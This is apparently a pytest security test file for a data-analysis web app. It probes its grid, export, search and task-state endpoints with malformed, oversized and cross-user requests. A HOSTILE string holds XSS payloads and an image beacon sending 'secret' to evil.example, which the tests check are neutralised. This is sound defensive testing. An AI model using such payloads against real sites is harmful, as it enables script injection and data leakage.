"""Regression attacks on the endpoints added after issue 15's run (the grid, search, export, task
state, earlier records): two users over the real HTTP API; every bad input is a 4xx naming the
problem, never a 5xx, and nothing of one user's reaches the other."""

from __future__ import annotations

import json
import re
import shutil
from urllib.parse import quote

import pytest
from litestar.testing import TestClient

from datadesk.llm.scripted import ScriptedModel, tool_step
from tests.conftest import parse_sse
from tests.fakes.sandbox import FakeSandbox

pytestmark = pytest.mark.security

DEEP = "[" * 50_000 + "]" * 50_000  # past every JSON decoder's nesting limit


@pytest.fixture(scope="module")
def env(tmp_path_factory, demo_warehouse_dir):
    """alice has a thread with a query result (2,000 readings); bob (no permissions) has his own."""
    from datadesk.store.layout import Layout
    from datadesk.store.workspaces import ensure_demo_workspace
    from tests.conftest import make_harness

    home = tmp_path_factory.mktemp("secend") / "var"
    data = Layout(home).workspace_data_dir("demo")
    data.mkdir(parents=True)
    shutil.copy(demo_warehouse_dir / "warehouse.duckdb", data / "warehouse.duckdb")
    ensure_demo_workspace(Layout(home))
    model = ScriptedModel(then="ok")
    h = make_harness(home, model)
    FakeSandbox(h.rt)
    with TestClient(h.app(), raise_server_exceptions=False) as client:
        tid = client.post("/api/threads", json={"title": "Readings"}, headers=h.auth("alice")).json()["id"]
        model.steps.extend([tool_step("sql_query", {"sql": "SELECT * FROM readings LIMIT 2000"}), "done"])
        events = parse_sse(client.post(f"/api/threads/{tid}/messages", json={"content": "go"},
                                       headers=h.auth("alice")).text)
        aid = next(d for e, d in events if e == "artifact.created")["artifact"]["id"]
        yield h, client, model, tid, aid


def _filter(value: object) -> str:
    return "filter=" + quote(value if isinstance(value, str) else json.dumps(value))


@pytest.mark.parametrize("endpoint", ["rows", "rows.csv"])
def test_a_grid_filter_nested_too_deep_is_a_400_naming_the_filter(env, endpoint) -> None:
    h, client, _, _, aid = env
    r = client.get(f"/api/artifacts/{aid}/{endpoint}?{_filter('[' * 2500 + ']' * 2500)}", headers=h.auth("alice"))
    assert r.status_code == 400, r.text
    # too deep for the decoder (where its stack ends) or decoded and refused as no filter object
    assert r.json()["extra"]["param"] == "filter" and r.json()["error"].startswith("filter")


def test_a_csv_of_a_view_whose_filter_value_does_not_fit_is_a_400_not_an_empty_download(env) -> None:
    h, client, _, _, aid = env
    bad = _filter([{"column": "kwh", "op": "=", "value": "abc"}])
    r = client.get(f"/api/artifacts/{aid}/rows.csv?{bad}", headers=h.auth("alice"))
    assert r.status_code == 400, (r.status_code, r.content[:200])
    # checked before any query runs, naming the filter and the value (offload/grid/view.py)
    assert "filter 1 (kwh =)" in r.json()["error"] and "'abc' is not a number" in r.json()["error"]
    good = _filter([{"column": "kwh", "op": ">", "value": "0"}])
    r = client.get(f"/api/artifacts/{aid}/rows.csv?{good}", headers=h.auth("alice"))
    assert r.status_code == 200 and r.text.startswith('"building_id"') and r.text.count("\n") > 10


def test_a_model_tool_call_nested_too_deep_leaves_the_thread_readable(env) -> None:
    h, client, model, _, _ = env
    auth = h.auth("alice")
    tid = client.post("/api/threads", json={"title": "deep"}, headers=auth).json()["id"]
    model.steps.extend([tool_step("sql_query", '{"sql": "SELECT 1", "x": ' + DEEP + "}"), "answered anyway"])
    r = client.post(f"/api/threads/{tid}/messages", json={"content": "zebrafish"}, headers=auth)
    events = parse_sse(r.text)
    assert r.status_code == 200 and events[-1][0] == "done", r.text[:300]
    finished = next(d for e, d in events if e == "tool.finished")
    assert not finished["ok"] and "invalid arguments" in finished["preview"]
    assert client.get(f"/api/threads/{tid}", headers=auth).status_code == 200
    for fmt in ("md", "html", "ipynb", "zip"):
        r = client.get(f"/api/threads/{tid}/export?format={fmt}", headers=auth)
        assert r.status_code == 200, (fmt, r.text[:200])
    hits = client.get("/api/search?q=zebrafish", headers=auth).json()["results"]
    assert [x["thread"] for x in hits] == [tid]


HOSTILE = ('<script>alert(1)</script><img src=x onerror=alert(2)> [j](javascript:alert(3)) '
           '![beacon](https://evil.example/leak.png?d=secret) ![app](/login?code=abc) <svg onload=alert(4)></svg>')


def test_the_html_export_is_inert_and_never_fetches_even_saved_to_disk(env) -> None:
    h, client, model, _, _ = env
    auth = h.auth("alice")
    tid = client.post("/api/threads", json={"title": "<script>alert(9)</script>"}, headers=auth).json()["id"]
    model.steps.append(HOSTILE)
    parse_sse(client.post(f"/api/threads/{tid}/messages", json={"content": HOSTILE}, headers=auth).text)
    r = client.get(f"/api/threads/{tid}/export?format=html&download=true", headers=auth)
    assert r.status_code == 200 and "script-src" not in r.headers["content-security-policy"]
    page = r.text.lower()
    assert "<script" not in page and "<svg" not in page and 'href="javascript' not in page
    images = re.findall(r"<img\b[^>]*>", page)
    assert images and all(re.search(r'\ssrc="(?!data:image/)', tag) is None for tag in images), images
    # the file keeps its own policy when opened from disk, where no header comes with it
    head = page.split("</head>")[0]
    assert "http-equiv=\"content-security-policy\"" in head and "default-src 'none'" in head
    assert head.index("content-security-policy") < head.index("<style>")
    assert r.headers["content-disposition"] == 'attachment; filename="script_alert_9_script.html"'


def _big_thread(h, client, answers: int, chars: int) -> str:
    import time as _time

    from datadesk.domain.records import Record

    tid = client.post("/api/threads", json={"title": "big"}, headers=h.auth("alice")).json()["id"]
    handle = h.rt.threads.get(tid, h.rt.users.by_token(h.tokens["alice"]).id, ["demo"])
    table = "| n | v |\n|---|---|\n" + "".join(f"| {i} | {i * 7} |\n" for i in range(chars // 12))
    for i in range(2 * answers):
        handle.append(lambda seq, i=i: Record(seq=seq, ts=_time.time(), role="assistant" if i % 2 else "user",
                                              content=table if i % 2 else f"show all rows {i}"))
    return tid


def test_many_long_answers_render_within_a_budget_newest_first(env) -> None:
    """80 answers of 20 KB (a Markdown table each): a page of them rendered whole took 42 s of CPU
    at limit=1000; past the budget the older ones come as plain text (the whole text, escaped)."""
    from datadesk.api.controllers.threads import RENDER_BUDGET_CHARS

    h, client, _, _, _ = env
    tid = _big_thread(h, client, 80, 20_000)
    r = client.get(f"/api/threads/{tid}?limit=1000", headers=h.auth("alice"))
    assert r.status_code == 200
    answers = [x for x in r.json()["records"] if x["role"] == "assistant"]
    rendered = [a for a in answers if "<table>" in a["html"]]
    plain = [a for a in answers if a["html"].startswith('<pre class="dd-plain">')]
    assert len(rendered) + len(plain) == 80 and plain and rendered
    assert sum(len(a["content"]) for a in rendered) <= RENDER_BUDGET_CHARS
    assert answers.index(rendered[0]) > answers.index(plain[-1])  # the newest are the rendered ones
    assert all(a["content"].splitlines()[-1].split("|")[1].strip() in a["html"] for a in plain)


def test_the_html_export_of_a_large_thread_is_bounded_and_complete(env) -> None:
    from datadesk.api.controllers.export import RENDER_BUDGET_CHARS

    h, client, _, _, _ = env
    tid = _big_thread(h, client, 80, 20_000)
    r = client.get(f"/api/threads/{tid}/export?format=html", headers=h.auth("alice"))
    assert r.status_code == 200
    answers = r.text.split('<div class="answer">')[1:]
    assert len(answers) == 80
    rendered = [a for a in answers if a.startswith("<table>")]
    assert rendered and len(rendered) * 20_000 <= RENDER_BUDGET_CHARS + 20_000
    assert all(a.startswith('<pre class="dd-plain">') for a in answers if not a.startswith("<table>"))


def test_the_workspace_view_shows_no_secret_of_a_misconfigured_source(home, harness_factory, monkeypatch) -> None:
    """Secrets written where they may not be (a password holding '@', a query parameter, a wrong
    key) make the source misconfigured; the admin's view says why and shows none of them."""
    from datadesk.store.layout import Layout
    from datadesk.store.users import UserStore

    monkeypatch.setenv("QA_SOURCE_PW", "env-secret-value")
    cfg = Layout(home).workspace_config("demo")
    cfg.write_text(cfg.read_text() + '''
[sources.at]
url = "postgresql://u:p@ss-part1@127.0.0.1:1/db"
[sources.wrongkey]
url = "postgresql://reader@127.0.0.1:1/db"
password = "${env:QA_SOURCE_PW}"
token = "wrong-key-part2"
[sources.query]
driver = "adbc_driver_snowflake"
url = "snowflake://acct/db?user=bob&password=query-part3&role=r"
''')
    h = harness_factory(ScriptedModel(then="ok"))
    _, h.tokens["adm"] = UserStore(h.rt.layout).add("adm", ["demo"], ["admin"])
    with TestClient(h.app(), raise_server_exceptions=False) as client:
        assert client.get("/api/workspace", headers=h.auth("bob")).status_code == 403
        r = client.get("/api/workspace?workspace=demo", headers=h.auth("adm"))
    assert r.status_code == 200, r.text
    for secret in ("ss-part1", "wrong-key-part2", "query-part3", "env-secret-value"):
        assert secret not in r.text, secret
    sources = {s["name"]: s for s in r.json()["sources"]}
    assert sources["at"]["config"]["url"] == "postgresql://u:********@127.0.0.1:1/db"
    assert sources["wrongkey"]["config"]["token"] == "********" and "token" in sources["wrongkey"]["reason"]
    assert sources["query"]["config"]["url"] == "snowflake://acct/db?user=bob&password=********&role=r"
    assert sources["wrongkey"]["config"]["password"] == "${env:QA_SOURCE_PW}"  # a reference, no secret


def test_zip_exports_are_bounded_per_user_and_the_temp_file_goes(env) -> None:
    """Each zip is a temp file of up to MAX_BUNDLE_BYTES (2 GiB); concurrent ones were unbounded.
    The first download is held mid-body (a client reading slowly) while the others ask."""
    import glob
    import tempfile
    import threading

    import anyio

    h, client, _, tid, _ = env
    url = f"/api/threads/{tid}/export?format=zip"
    pattern = f"{tempfile.gettempdir()}/datadesk-export-*.zip"
    before = set(glob.glob(pattern))
    gate, sent = threading.Event(), []

    requests = [{"type": "http.request", "body": b"", "more_body": False}]

    async def receive():
        if requests:
            return requests.pop()
        while not any(m["type"] == "http.response.body" and not m.get("more_body") for m in sent):
            await anyio.sleep(0.01)  # connected until the response is complete
        return {"type": "http.disconnect"}

    async def send(msg):
        sent.append(msg)
        if msg["type"] == "http.response.body" and msg.get("more_body"):
            while not gate.is_set():  # a client that reads slowly
                await anyio.sleep(0.01)

    token = h.tokens["alice"].encode()
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET",
             "scheme": "http", "path": url.split("?")[0], "raw_path": url.split("?")[0].encode(),
             "query_string": b"format=zip", "root_path": "", "server": ("testserver", 80),
             "client": ("127.0.0.1", 5), "headers": [(b"authorization", b"Bearer " + token)]}
    with client.portal() as portal:
        first = portal.start_task_soon(client.app, scope, receive, send)
        try:
            deadline = __import__("time").time() + 20
            while not any(m["type"] == "http.response.body" for m in sent):
                assert __import__("time").time() < deadline and not first.done()
                gate.wait(0.02)
            assert sent[0]["status"] == 200
            second = client.get(url, headers=h.auth("alice"))
            assert second.status_code == 429 and "at most 1 per user" in second.json()["error"], second.status_code
            assert "retry-after" in second.headers and "content-security-policy" in second.headers
            assert client.get(f"/api/threads/{tid}/export?format=md", headers=h.auth("alice")).status_code == 200
        finally:
            gate.set()
            first.result(20)
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    assert body[:2] == b"PK"
    again = client.get(url, headers=h.auth("alice"))
    assert again.status_code == 200 and again.content[:2] == b"PK"
    assert set(glob.glob(pattern)) == before


def test_the_workspace_view_masks_a_secret_given_as_an_mcp_command_argument(home, harness_factory) -> None:
    """`command = ["srv", "--token", "<literal>"]`: the value after a secret-named flag was shown."""
    from datadesk.store.layout import Layout
    from datadesk.store.users import UserStore

    cfg = Layout(home).workspace_config("demo")
    cfg.write_text(cfg.read_text() + '\n[mcp.crm]\ncommand = ["crm-server", "--api-key", "argv-secret-9", '
                   '"--port", "8080"]\nenabled = false\n')
    h = harness_factory(ScriptedModel(then="ok"))
    _, h.tokens["adm"] = UserStore(h.rt.layout).add("adm", ["demo"], ["admin"])
    with TestClient(h.app(), raise_server_exceptions=False) as client:
        r = client.get("/api/workspace?workspace=demo", headers=h.auth("adm"))
    assert r.status_code == 200, r.text
    assert "argv-secret-9" not in r.text
    crm = next(s for s in r.json()["mcp"] if s["name"] == "crm")
    assert crm["config"]["command"] == ["crm-server", "--api-key", "***", "--port", "8080"]


def test_an_oversized_body_is_a_413_naming_the_endpoints_limit(env) -> None:
    h, client, _, tid, _ = env
    big = b'{"text": "' + b"x" * 2_000_000 + b'"}'
    for path, limit in ((f"/api/threads/{tid}/task-state", "1,048,576"), (f"/api/threads/{tid}/messages", None)):
        r = client.post(path, content=big if limit else big * 3,
                        headers={**h.auth("alice"), "content-type": "application/json"})
        assert r.status_code == 413 and "content-security-policy" in r.headers
        assert f"limit of {limit or '4,194,304'} bytes" in r.json()["error"], r.text


def test_another_users_thread_artifact_export_search_and_task_state_stay_hidden(env) -> None:
    """bob (no permissions, not in 'sales') on every new route with alice's ids: 404 naming only the
    id, and his search never shows her words."""
    h, client, model, tid, aid = env
    alice, bob = h.auth("alice"), h.auth("bob")
    r = client.post(f"/api/threads/{tid}/task-state", json={"text": "exclude quokka holidays"}, headers=alice)
    item = r.json()["item"]["id"]
    sales = client.post("/api/threads", json={"title": "quokka plan", "workspace": "sales"}, headers=alice).json()["id"]
    probes = [("GET", f"/api/artifacts/{aid}/rows?limit=5"), ("GET", f"/api/artifacts/{aid}/rows.csv"),
              ("GET", f"/api/threads/{tid}?before=5"), ("GET", f"/api/threads/{tid}/task-state"),
              ("DELETE", f"/api/threads/{tid}/task-state/{item}"), ("GET", f"/api/threads/{sales}"),
              *[("GET", f"/api/threads/{t}/export?format={f}") for t in (tid, sales) for f in ("md", "html", "ipynb", "zip")]]
    for method, path in probes:
        r = client.request(method, path, headers=bob)
        assert r.status_code == 404, (path, r.status_code)
        assert "quokka" not in r.text and "building_id" not in r.text and "content-security-policy" in r.headers
    r = client.post(f"/api/threads/{tid}/task-state", json={"text": "mine now"}, headers=bob)
    assert r.status_code == 404
    assert client.get("/api/search?q=quokka", headers=bob).json()["results"] == []
    r = client.get("/api/search?q=quokka&workspace=sales", headers=bob)
    assert r.status_code == 404 and "sales" in r.json()["error"]
    mine = client.get("/api/search?q=quokka", headers=alice).json()["results"]
    assert {x["thread"] for x in mine} == {sales}  # the task state is not a record; the title is
    state = client.get(f"/api/threads/{tid}/task-state", headers=alice).json()["task_state"]["items"]
    assert [i["text"] for i in state if i["status"] == "active"][-1] == "exclude quokka holidays"


@pytest.mark.parametrize("query, named", [
    ("export?format=md&format=zip", "'format' is given more than once"),
    ("export?fromat=zip", "unknown query parameter 'fromat': this endpoint takes audience, download, format"),
    ("export?download=yes", "query parameter 'download': Expected `bool`"),
    ("?limit=10&limit=20", "'limit' is given more than once"),
    ("?before=0", "query parameter 'before': Expected `int` >= 1"),
    ("?befor=5", "unknown query parameter 'befor'"),
    ("task-state?x=1", "unknown query parameter 'x'"),
    ("?user=bob", "unknown query parameter 'user': this endpoint takes before, limit"),
])
def test_query_parameters_are_declared_once_and_a_bad_one_is_named(env, query, named) -> None:
    h, client, _, tid, _ = env
    sep = "/" if not query.startswith("?") else ""
    r = client.get(f"/api/threads/{tid}{sep}{query}", headers=h.auth("alice"))
    assert r.status_code == 400 and named in r.json()["error"], r.text[:300]


def test_search_refuses_a_repeated_or_unknown_parameter(env) -> None:
    h, client, _, _, _ = env
    r = client.get("/api/search?q=readings&q=other", headers=h.auth("alice"))
    assert r.status_code == 400 and "'q' is given more than once" in r.json()["error"]
    r = client.get("/api/search?query=readings", headers=h.auth("alice"))
    assert r.status_code == 400 and "takes limit, q, workspace" in r.json()["error"]
    assert client.get("/api/search?q=readings&limit=5", headers=h.auth("alice")).status_code == 200


def test_a_notebook_cell_of_an_inline_result_with_nulls_and_booleans_runs(env) -> None:
    """The inline rows were written as JSON into Python code: `null`, `true` -> NameError."""
    h, client, model, _, _ = env
    auth = h.auth("alice")
    tid = client.post("/api/threads", json={"title": "inline"}, headers=auth).json()["id"]
    model.steps.extend([tool_step("sql_query", {"sql": "SELECT NULL AS a, true AS b, 'x\"''y' AS c"}), "done"])
    parse_sse(client.post(f"/api/threads/{tid}/messages", json={"content": "go"}, headers=auth).text)
    cells = client.get(f"/api/threads/{tid}/export?format=ipynb", headers=auth).json()["cells"]
    source = next(c["source"] for c in cells if c["cell_type"] == "code" and ", inline={" in c["source"])
    ns = {"sql_result": lambda sql, artifact=None, inline=None: inline}
    exec(compile(source, "cell", "exec"), ns)  # noqa: S102 - the notebook's own cell, as Jupyter runs it
    var = re.search(r"^(q\d+) = sql_result", source, re.M).group(1)
    assert ns[var]["rows"] == [[None, True, "x\"'y"]], source


def test_a_page_of_huge_records_is_cut_to_a_size_and_the_rest_loads_earlier(env) -> None:
    """limit=1000 of 20 KB answers was one 24 MB response (1000 x 300 KB: 300 MB); the text of one
    page is bounded, has_more says there is more and before= fetches it."""
    from datadesk.api.controllers.threads import PAGE_CHARS

    h, client, _, _, _ = env
    tid = _big_thread(h, client, 250, 40_000)  # 500 records, ~10 MB of text
    auth = h.auth("alice")
    first = client.get(f"/api/threads/{tid}?limit=1000", headers=auth).json()
    got = first["records"]
    assert first["has_more"] and 0 < len(got) < 500
    assert sum(len(r["content"] or "") for r in got) <= PAGE_CHARS
    seen = list(got)
    while True:
        page = client.get(f"/api/threads/{tid}?limit=1000&before={seen[0]['seq']}", headers=auth).json()
        seen = page["records"] + seen
        if not page["has_more"]:
            break
    assert [r["seq"] for r in seen] == list(range(1, 501))
